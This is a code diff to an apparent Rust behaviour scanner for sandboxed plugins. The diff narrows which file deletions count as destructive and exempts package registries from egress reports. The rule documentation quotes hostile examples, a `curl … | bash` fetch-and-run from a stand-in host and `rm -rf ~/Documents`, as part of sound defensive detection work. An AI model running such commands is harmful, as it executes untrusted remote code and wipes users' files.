@@ -72,8 +72,8 @@ Example: `curl -s https://x.example/i.sh | bash`.",
         slug: "destructive-operation",
         severity: Severity::High,
         summary: "a script deleted or moved files outside its working copy, or deleted many files",
-        docs: "What: unlink or rename outside the working copy and TMPDIR (refused by the \
-sandbox, logged), or more than 20 deletions in one run.\n\
+        docs: "What: unlink or rename in the user's home or the system (refused by the \
+sandbox, logged), or more than 20 deletions in one run. Temporary directories are the skill's own.\n\
 Why: wiping the user's files is sabotage whatever the skill claims to do.\n\
 Example: `rm -rf ~/Documents`.",
     },
@@ -210,9 +210,41 @@ fn is_persistence_path(path: &str) -> bool {
     PERSISTENCE.iter().any(|p| path.contains(p))
 }
 
-fn inside_sandbox_scratch(path: &str) -> bool {
-    path.starts_with("/tmp/work/") || path.starts_with("/tmp/scratch/")
+/// Where a deletion hurts the user: their home and the system. Temporary directories and the
+/// skill's working copy are the skill's own to clean.
+fn hurts_user(path: &str) -> bool {
+    const SYSTEM: &[&str] = &[
+        "/etc/",
+        "/usr/",
+        "/opt/",
+        "/root/",
+        "/srv/",
+        "/boot/",
+        "/var/lib/",
+        "/var/log/",
+        "/bin/",
+        "/lib",
+    ];
+    path.starts_with("/home/")
+        || path.starts_with("/tmp/home/")
+        || SYSTEM.iter().any(|p| path.starts_with(p))
 }
+
+/// Registries package managers reach on their own; a skill that runs `pip install` talks to
+/// them without naming them.
+const PACKAGE_REGISTRIES: &[&str] = &[
+    "pypi.org",
+    "pythonhosted.org",
+    "npmjs.org",
+    "npmjs.com",
+    "yarnpkg.com",
+    "crates.io",
+    "rubygems.org",
+    "debian.org",
+    "ubuntu.com",
+    "golang.org",
+    "proxy.golang.org",
+];
 
 fn credential_severity(honeytoken: &str) -> Severity {
     match honeytoken {
@@ -496,7 +528,8 @@ fn egress(
         let zone = zone(&name);
         let is_declared = declared
             .iter()
-            .any(|d| host_matches(&name, d) || host_matches(d, &name) || zone == self::zone(d));
+            .any(|d| host_matches(&name, d) || host_matches(d, &name) || zone == self::zone(d))
+            || PACKAGE_REGISTRIES.iter().any(|r| host_matches(&name, r));
         if is_declared || !reported.insert(zone.clone()) {
             continue;
         }
@@ -559,14 +592,14 @@ fn filesystem(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTree
                         .with_evidence(to),
                     );
                 }
-                if !inside_sandbox_scratch(from) {
+                if hurts_user(from) {
                     destructive.push((event, format!("rename of `{from}`")));
                 }
             }
             EventKind::FileUnlink { path } => {
                 caps.insert(Capability::FsDelete);
                 deletions += 1;
-                if !inside_sandbox_scratch(path) {
+                if hurts_user(path) {
                     destructive.push((event, format!("deletion of `{path}`")));
                 }
             }
